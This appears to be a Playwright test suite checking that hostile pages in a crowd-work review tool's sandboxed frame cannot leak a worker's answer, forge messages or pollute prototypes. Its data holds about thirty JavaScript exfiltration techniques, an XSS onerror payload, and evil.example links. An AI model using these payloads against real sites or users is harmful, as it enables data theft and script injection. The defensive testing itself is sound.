"""Hostile pages and answers under review reach nothing: not the page around the frame, no other host, no window."""

import json
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, expect
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route, WebSocketRoute
from starlette.websockets import WebSocket

from tests.browser.conftest import FLAGS
from tests.browser.review_frames import reviewing, stored, work_of
from tests.chromium import find_chromium
from tests.conftest import serving_app

SECRET = "the-secret-answer"

#: A worker's answer that would run as a script.
INJECTION = "</script><img src=x onerror=\"document.title='broken'\"><!--"


class Listener:
    """A server of another host that writes down every request."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        self.address = ""

    def app(self) -> Starlette:
        async def page(request: Request) -> Response:
            self.requests.append(f"{request.method} {request.url} {(await request.body()).decode()}")
            return Response("hello", headers={"Access-Control-Allow-Origin": "*"})

        async def socket(connection: WebSocket) -> None:
            self.requests.append(f"SOCKET {connection.url}")
            await connection.close()

        methods = ["GET", "POST", "PUT", "OPTIONS"]
        return Starlette(routes=[WebSocketRoute("/{path:path}", socket), Route("/{path:path}", page, methods=methods)])


@pytest.fixture
def listener() -> Iterator[Listener]:
    listener = Listener()
    with serving_app(listener.app()) as address:
        listener.address = address
        yield listener


@pytest.fixture
def page(laptop_context: BrowserContext) -> Iterator[Page]:
    """A page on which scripts may fail, as those do that are refused something."""
    page = laptop_context.new_page()
    yield page
    for other in laptop_context.pages[1:]:
        other.close()


@pytest.fixture(autouse=True)
def dialogs(page: Page) -> list[str]:
    """The dialogs and windows that the page opens: none must."""
    opened: list[str] = []

    def note(dialog: Dialog) -> None:
        opened.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", note)
    page.on("popup", lambda other: opened.append(other.url))
    return opened


def form(script: str) -> str:
    """A page with one field, and a script that runs once the page has the answer, which is `answer` in it."""
    return f"""<!doctype html><title>T</title><form><input name="a"></form><p id="done"></p><script>
const whole = (...parts) => parts.join("");
document.addEventListener("change", async () => {{
  const answer = document.forms[0].elements.a.value;
  try {{ {script} }} finally {{ document.getElementById("done").textContent = "done"; }}
}}, {{ once: true }});</script>"""


def wait_until_done(page: Page) -> None:
    expect(page.frame_locator("iframe").first.locator("#done")).to_have_text("done")


#: Ways to send the answer. HOST is an address of another host that the page hides, NAMED one that it names.
SENDS = {
    "fetch": "fetch(HOST + '?' + answer).catch(() => {});",
    "fetch by POST to a host that the page names": "fetch(NAMED, {method: 'POST', body: answer, mode: 'no-cors'});",
    "a request object": "fetch(new Request(NAMED, {method: 'POST', body: answer, mode: 'no-cors'}));",
    "XMLHttpRequest": "const r = new XMLHttpRequest(); r.open('POST', NAMED); r.send(answer);",
    "a beacon": "navigator.sendBeacon(NAMED, answer);",
    "the original beacon": "Navigator.prototype.sendBeacon.call(navigator, HOST, answer);",
    "a picture": "new Image().src = HOST + '?' + answer;",
    "a style sheet": "document.head.append(Object.assign(document.createElement('link'), "
    "{rel: 'stylesheet', href: HOST + '?' + answer}));",
    "a prefetch": "document.head.append(Object.assign(document.createElement('link'), "
    "{rel: 'prefetch', href: HOST + '?' + answer}));",
    "a script": "document.head.append(Object.assign(document.createElement('script'), {src: HOST + '?' + answer}));",
    "a frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: HOST + '?' + answer}));",
    "a frame in a frame": "document.body.append(Object.assign(document.createElement('iframe'), "
    "{srcdoc: `<img src='${HOST}?${answer}'>`}));",
    "a frame's own functions": "const f = document.createElement('iframe'); document.body.append(f); "
    "f.contentWindow.fetch(HOST + '?' + answer).catch(() => {});",
    "a socket": "new WebSocket(NAMED.replace('http', 'ws') + '/' + answer);",
    "an event stream": "new EventSource(HOST + '?' + answer);",
    "a worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${HOST}?${answer}').catch(() => {})`])));",
    "a form by GET": "document.forms[0].action = NAMED; document.forms[0].submit();",
    "a form by POST": "Object.assign(document.forms[0], {action: NAMED, method: 'post'}).requestSubmit();",
    "a form in another window": "Object.assign(document.forms[0], {action: NAMED, target: '_blank'}).requestSubmit();",
    "the form's own function": "HTMLFormElement.prototype.submit.call("
    "Object.assign(document.forms[0], {action: HOST, method: 'post'}));",
    "its own address": "location = HOST + '?' + answer;",
    "its own address in a link": "Object.assign(document.body.appendChild(document.createElement('a')), "
    "{href: HOST + '?' + answer}).click();",
    "a ping": "Object.assign(document.body.appendChild(document.createElement('a')), "
    "{href: '#x', ping: NAMED + '?' + answer}).click();",
    "a refresh": "document.head.append(Object.assign(document.createElement('meta'), "
    "{httpEquiv: 'refresh', content: `0;url=${HOST}?${answer}`}));",
    "the window around it": "top.location = HOST + '?' + answer;",
    "a new window": "window.open(HOST + '?' + answer);",
    "the history": "history.pushState({}, '', '?' + answer); history.back();",
    "the history of a frame in it": "document.body.append(Object.assign(document.createElement('iframe'), "
    "{srcdoc: '<script>history.back(); history.go(-2)<' + '/script>'}));",
    "the base of addresses": "document.head.append(Object.assign(document.createElement('base'), {href: HOST})); "
    "new Image().src = 'x?' + answer;",
}


@pytest.mark.parametrize("way", SENDS)
def test_a_page_cannot_send_the_answer(page: Page, listener: Listener, dialogs: list[str], way: str) -> None:
    hidden = f"whole('htt', 'p:/', '/127.0.', '0.1:', {listener.address.rpartition(':')[2]})"
    script = SENDS[way].replace("HOST", f"({hidden})").replace("NAMED", f"'{listener.address}'")
    script = script.replace(f"${{({hidden})}}", f"${{{hidden}}}")
    # Two pages to which the window could go back.
    page.goto(f"{listener.address}/one")
    page.goto(f"{listener.address}/two")
    with reviewing(page, work_of(form(script), {"a": SECRET})) as review:
        if way not in ("its own address", "a refresh"):
            wait_until_done(page)
            review.settle()
        page.wait_for_function("(gone) => heard.failed >= gone", arg=int(way in ("its own address", "a refresh")))
        assert page.url.rstrip("/") == review.address
        # A page that goes to another address finds nothing there, and the page around it learns that it is gone.
        is_gone = way in ("its own address", "a refresh")
        assert is_gone or review.frame.locator("[name=a]").input_value() == SECRET
        assert review.heard("failed") == int(is_gone)
    assert [request for request in listener.requests if SECRET in request] == []
    assert dialogs == []


def test_a_page_cannot_send_what_it_asks_for(page: Page, listener: Listener) -> None:
    port = listener.address.rpartition(":")[2]
    script = f"""const {{ output }} = simpleturkReview();
new Image().src = ["http:", "", "127.0.0.1:{port}", "?" + output.a].join("/");
fetch("http://127.0.0.1:" + "{port}" + "/?" + output.a).catch(() => {{}});"""
    with reviewing(page, work_of(f"<form><input name=a></form><script>{script}</script>", {"a": SECRET})) as review:
        review.settle()
    assert [request for request in listener.requests if SECRET in request] == []


def test_an_answer_that_the_page_runs_as_a_script_sends_nothing(page: Page, listener: Listener) -> None:
    port = listener.address.rpartition(":")[2]
    attack = f"""<img src="x:" onerror="new Image().src = 'http:' + '//127.0.0.1:{port}/?{SECRET}';
document.body.dataset.ran = 'yes'; top.location = 'http:' + '//127.0.0.1:{port}/'">"""
    shown = form("document.body.insertAdjacentHTML('beforeend', answer);")
    with reviewing(page, work_of(shown, {"a": attack})) as review:
        expect(page.frame_locator("iframe").locator("body[data-ran=yes]")).to_be_visible()
        review.settle()
    assert listener.requests == []


FORGED = """{ const { port1, port2 } = new MessageChannel();
parent.postMessage({ simpleturk: "review" }, "*", [port2]);
for (const target of [port1, parent]) {
  const send = (message) => (target === parent ? parent.postMessage(message, "*") : port1.postMessage(message));
  send({ ready: true }); send({ key: "A" }); send({ unplaced: ["forged"] }); send({ height: 1e9 });
  send({ link: "https://evil.example/" }); send({ simpleturk: "ready" }); send({ simpleturk: "height", height: 9e9 });
} }"""


@pytest.mark.parametrize(
    "page_start",
    [
        "<!doctype html>",
        "<!doctype html><meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
        "<!--> SCRIPT <!-- -->",
        "<!---> SCRIPT <!-- -->",
        "<!-- x --!> SCRIPT <!-- -->",
        "<!doctype html '>' [ SCRIPT ]>",
        "<?xml version='1.0' ?><!-- a --><html><head><meta charset=utf-8>",
        "<html onload=x><script>SCRIPT</script>",
    ],
)
def test_a_page_cannot_speak_for_the_review(page: Page, page_start: str) -> None:
    own = f"<script>{FORGED}</script>"
    html = f"{page_start.replace('SCRIPT', own)}<form><input name=a></form>{own}"
    with reviewing(page, work_of(html, {"a": SECRET})) as review:
        review.settle()
        assert [review.heard(name) for name in ("keys", "links", "unplaced")] == [[], [], []]
        assert review.heard("ready") == 1
        height = page.locator("iframe").evaluate("(frame) => frame.offsetHeight")
        assert height < 2000


def test_a_page_cannot_choose_the_key_that_the_reviewer_pressed(page: Page) -> None:
    script = """<script>
Object.defineProperty(KeyboardEvent.prototype, "key", { get: () => "A" });
Reflect.apply = () => "A"; Function.prototype.call = () => "A";
addEventListener("keydown", (event) => { if (event.isTrusted) document.title = "seen"; }, true);
const press = (key) => document.dispatchEvent(new KeyboardEvent("keydown", { key }));
document.addEventListener("click", () => { press("a"); press("A"); });
</script>"""
    with reviewing(page, work_of(f"<form><input name=a></form>{script}<p>text", {"a": "1"})) as review:
        review.frame.locator("p").click()
        page.keyboard.press("x")
        page.wait_for_function("heard.keys.length > 0")
        assert review.heard("keys") == ["x"]
        assert review.frame.title() == ""


def test_a_link_made_of_the_answer_is_not_offered(page: Page) -> None:
    script = """const link = document.body.appendChild(document.createElement("a"));
link.textContent = "press"; link.href = whole("https:/", "/evil", ".example/?", answer);
document.addEventListener("click", () => { document.title = "clicked"; });"""
    with reviewing(page, work_of(form(script), {"a": SECRET})) as review:
        wait_until_done(page)
        review.frame.get_by_text("press").click()
        review.frame.wait_for_function("document.title === 'clicked'")
        review.settle()
        assert review.heard("links") == []


def test_dialogs_and_windows_stay_closed(page: Page, dialogs: list[str]) -> None:
    script = "for (let n = 0; n < 1000; n++) { alert(n); confirm(n); prompt(n); } print(); window.open('/'); "
    script += (
        "Object.assign(document.body.appendChild(document.createElement('a')), {href: '/', target: '_blank'}).click();"
    )
    with reviewing(page, work_of(form(script), {"a": SECRET})):
        wait_until_done(page)
    assert dialogs == []


def test_the_page_around_works_while_a_page_never_ends(chromium: Browser) -> None:
    # As on desktops: Chromium gives a frame without an origin a process of its own where it has processes for sites.
    options = [*FLAGS, "--site-per-process"]
    browser = chromium.browser_type.launch(executable_path=find_chromium(), args=options)
    page = browser.new_page()
    with reviewing(page, work_of(form("setTimeout(() => { for (;;) alert(1); }, 200);"), {"a": SECRET})):
        page.wait_for_timeout(400)
        page.evaluate("document.querySelector('iframe').remove()")
        assert page.title() == "Review"
    browser.close()


@pytest.mark.parametrize(
    "value",
    [
        INJECTION,
        "a\x00b",
        "\ud800",
        "\udfff x",
        "🙂 ]]> & < > ' \"",
        "${x} {{ y }} `z`",
        "\u2028\u2029\ufeff",
        "x" * 5_000_000,
    ],
    ids=["markup", "NUL", "surrogate", "low surrogate", "emoji", "template", "separators", "5 MB"],
)
def test_any_text_is_shown_as_text(page: Page, value: str) -> None:
    html = "<!doctype html><title>T</title><form id=results-form><textarea name=a></textarea></form>"
    with reviewing(page, work_of(html, stored({"a": value}))) as review:
        assert review.heard("unplaced") == []
        assert json.loads(review.frame.evaluate("JSON.stringify(document.forms[0].a.value)")) == value
        assert review.frame.title() == "T"


NAMES = [
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    'a"]',
    "a'b",
    "x[y",
    "p.q",
    "#id",
    "*",
    "a\\",
    "é 🙂",
    "a>b",
]


def test_fields_of_any_name_are_filled_in(page: Page) -> None:
    fields = "".join(f"<input name='{name.replace(chr(39), '&#39;')}'>" for name in NAMES)
    html = f"<!doctype html><form>{fields}</form>"
    answers = {name: f"value of {name}" for name in NAMES}
    with reviewing(page, work_of(html, list(answers.items()))) as review:
        assert review.heard("unplaced") == []
        assert review.output() == answers
        assert review.frame.evaluate("({}).admin === undefined && ({}).a === undefined")


def test_keys_that_are_special_in_javascript_change_no_object(page: Page) -> None:
    output: dict[str, Any] = {"__proto__": {"admin": "yes"}, "constructor": {"prototype": {"admin": "yes"}}, "a": "1"}
    html = """<!doctype html><form id=results-form><input name=a><input name="__proto__.admin"></form>"""
    with reviewing(page, work_of(html, stored(output))) as review:
        assert review.heard("unplaced") == ["constructor.prototype.admin"]
        assert review.frame.evaluate("[({}).admin, window.admin]") == [None, None]
        assert review.frame.evaluate("Object.keys(simpleturkReview().output)") == list(output)


@pytest.mark.parametrize("shape", ["deep", "wide", "names"])
def test_large_answers_are_shown_without_a_long_wait(page: Page, shape: str) -> None:
    output: Any = "leaf"
    if shape == "deep":
        for _ in range(90):
            output = {"a": output}
    elif shape == "wide":
        output = [{"a": str(number)} for number in range(50_000)]
    else:
        output = {"n" * 5000 + str(number): "x" for number in range(500)}
    with reviewing(
        page, work_of("<!doctype html><form id=results-form><input name=z></form>", stored(output))
    ) as review:
        names = review.heard("unplaced")
        assert 1 <= len(names) <= 200
        assert max(map(len, names)) <= 200


def test_a_page_that_changes_for_ever_is_looked_at_less_and_less(page: Page) -> None:
    script = """let looks = 0; const all = document.querySelectorAll; document.querySelectorAll = function (s) {
  if (s === "[contenteditable]") window.looks = ++looks; return all.call(document, s); };
setInterval(() => document.body.append("."), 1);"""
    with reviewing(page, work_of(f"<form><input name=a></form><script>{script}</script>", {"a": "1"})) as review:
        page.wait_for_timeout(3000)
        assert review.frame.evaluate("window.looks") < 40
